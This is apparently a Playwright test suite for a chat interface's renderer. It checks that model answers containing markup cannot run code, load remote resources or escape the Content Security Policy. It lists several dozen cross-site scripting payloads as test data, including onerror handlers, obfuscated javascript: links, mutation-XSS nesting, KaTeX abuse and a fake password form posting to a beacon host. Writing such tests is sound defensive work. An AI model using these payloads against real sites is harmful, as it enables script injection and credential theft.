"""Untrusted model output: markup, scripts and links in an answer must never act.

Every test of this folder also fails when the page throws, violates its Content Security Policy or requests another
host (see conftest.py).
"""

from __future__ import annotations

import pytest
from playwright.async_api import Browser, expect
from playwright.async_api import Error as PlaywrightError

from tests.doubles.scripted_model import ScriptedModel
from tests.web.chat_page import ChatPage

pytestmark = pytest.mark.asyncio(loop_scope="session")

BEACON = "http://192.0.2.1"
ATTACKS = [
    "<script>window.owned = 1</script>",
    "<img src=x onerror='window.owned = 1'>",
    f"<img src='{BEACON}/pixel.png'>",
    f"![pixel]({BEACON}/pixel.png)",
    f'![a" onerror="window.owned=1]({BEACON}/p.png)',
    f"![ref][pixel]\n\n[pixel]: {BEACON}/ref.png",
    "<svg onload='window.owned = 1'></svg>",
    "<svg><style><img src=x onerror='window.owned = 1'></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=window.owned=1&gt;'>",
    f"<iframe src='{BEACON}/frame'></iframe>",
    "<iframe srcdoc='<script>parent.owned = 1</script>'></iframe>",
    f"<form action='{BEACON}/form'><input name=password><button>Log in</button></form>",
    f"<style>@import '{BEACON}/style.css'; body {{ display: none }}</style>",
    f"<link rel=stylesheet href='{BEACON}/style.css'>",
    f"<meta http-equiv=refresh content='0;url={BEACON}/away'>",
    f"<base href='{BEACON}/'>",
    f"<video src='{BEACON}/film' autoplay></video>",
    "<a href='javascript:window.owned = 1'>click</a>",
    "[click](javascript:window.owned=1)",
    "[click](JaVaScRiPt:window.owned=1)",
    "[click](java\tscript:window.owned=1)",
    "[click](&#106;avascript:window.owned=1)",
    "[click](data:text/html,<script>window.owned=1</script>)",
    "[click](vbscript:owned)",
    "<javascript:window.owned=1>",
    "[x]: javascript:window.owned=1\n\n[x]",
    '```"><img src=x onerror=window.owned=1>\ncode\n```',
    "```html\n<script>window.owned = 1</script>\n```",
    "`<img src=x onerror='window.owned = 1'>`",
    r"$\href{javascript:window.owned=1}{x}$",
    rf"$\includegraphics{{{BEACON}/pixel.png}}$",
    r"$\htmlStyle{position:fixed}{x}$ $\htmlData{x=y}{x}$",
    rf"$$\url{{{BEACON}}}$$",
    r"$$\def\x{\x\x}\x$$",
    r"$\rule{99999em}{99999em}$",
    r"$<img src=x onerror='window.owned = 1'>$",
    "| <img src=x onerror='window.owned=1'> |\n|---|\n| <script>window.owned=1</script> |",
]


async def test_an_answer_runs_no_code(chat: ChatPage, alpha: ScriptedModel) -> None:
    await chat.ask("Attack me")
    answer = await alpha.next_answer()
    for attack in ATTACKS:
        # Token by token, so that every incomplete state is rendered too.
        await answer.say(*(attack[at : at + 7] for at in range(0, len(attack), 7)), "\n\n")
    await answer.finish("The end of it.")
    shown = chat.answer_of("alpha")
    await expect(shown.get_by_text("The end of it.")).to_be_visible()
    await expect(shown.locator(".katex").first).to_be_visible()
    for link in await shown.get_by_role("link").all():
        url = await link.get_attribute("href")
        assert url is not None
        assert url.startswith(("http://", "https://", "mailto:"))
    content = shown.locator(".markdown")
    active = "script, img, iframe, form, input, style, link, meta, base, video, object, embed"
    await expect(content.locator(active)).to_have_count(0)
    handlers = (
        "elements => elements.flatMap(e => e.getAttributeNames()).filter(n => n.startsWith('on'))"
    )
    assert await content.locator("*").evaluate_all(handlers) == []
    assert await chat.page.evaluate("window.owned") is None
    await chat.page.reload()
    await expect(shown.get_by_text("The end of it.")).to_be_visible()
    assert await chat.page.evaluate("window.owned") is None


async def test_a_remote_image_is_only_a_link(chat: ChatPage, alpha: ScriptedModel) -> None:
    alpha.always_say(f"![A chart]({BEACON}/chart.png)")
    await chat.ask("Show me")
    link = chat.answer_of("alpha").get_by_role("link", name="Image: A chart")
    await expect(link).to_have_attribute("href", f"{BEACON}/chart.png")
    await expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    await expect(link).to_have_attribute("target", "_blank")


async def test_deep_nesting_does_not_block_the_page(chat: ChatPage, alpha: ScriptedModel) -> None:
    alpha.always_say(
        "> " * 5000,
        "deep",
        "\n\n",
        "- " * 2000,
        "x\n\n",
        "[" * 3000,
        "\n\n",
        "**" * 3000,
        "\n\nDone.",
    )
    await chat.ask("Go deep")
    await expect(chat.answer_of("alpha").get_by_text("Done.")).to_be_visible()
    await expect(chat.button("Send")).to_be_visible()


async def test_markup_in_a_title_and_a_model_name_is_text(
    chat: ChatPage, alpha: ScriptedModel
) -> None:
    alpha.always_say("Fine.")
    await chat.ask("<img src=x onerror='window.owned = 1'>")
    await expect(chat.listed("<img src=x onerror='window.owned = 1'>")).to_be_visible()
    await expect(chat.answer_of("alpha")).to_contain_text("Fine.")
    assert await chat.page.evaluate("window.owned") is None


@pytest.mark.parametrize(
    "attempt",
    [
        "document.body.innerHTML = '<p>markup that no sanitiser saw'",
        "document.createElement('script').text = 'window.owned = 1'",
        "setTimeout('window.owned = 1')",
    ],
)
async def test_the_content_security_policy_is_strict(
    browser: Browser, gateway: str, attempt: str
) -> None:
    context = await browser.new_context()
    chat = ChatPage(await context.new_page(), gateway)
    await chat.open()
    with pytest.raises(PlaywrightError, match=r"Trusted|string as JavaScript"):
        await chat.page.evaluate(f"() => {{ {attempt} }}")
    assert await chat.page.evaluate("window.owned") is None
    await context.close()


async def test_the_content_security_policy_blocks_inline_styles(
    browser: Browser, gateway: str
) -> None:
    context = await browser.new_context()
    chat = ChatPage(await context.new_page(), gateway)
    await chat.open()
    await chat.page.evaluate("() => document.body.setAttribute('style', 'display: none')")
    await expect(chat.message).to_be_visible()
    await context.close()


async def test_formulas_code_and_tables_are_rendered(chat: ChatPage, alpha: ScriptedModel) -> None:
    alpha.always_say(
        "Mass: $E = mc^2$, but $5 and $6 are prices.\n\n\\[ \\int_0^1 x\\,dx \\]\n\n",
        "```python\ndef f():\n    return 1\n```\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n",
    )
    await chat.ask("Everything")
    shown = chat.answer_of("alpha")
    await expect(shown.locator(".katex")).to_have_count(2)
    await expect(shown.locator(".katex-display")).to_have_count(1)
    await expect(shown).to_contain_text("$5 and $6 are prices.")
    await expect(shown.locator(".hljs-keyword").first).to_have_text("def")
    await expect(shown.get_by_role("cell", name="2")).to_have_css("text-align", "right")
    await chat.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    await chat.button("Copy code").click()
    await expect(shown.locator("button.copy")).to_have_text("Copied")
    assert await chat.page.evaluate("navigator.clipboard.readText()") == "def f():\n    return 1\n"
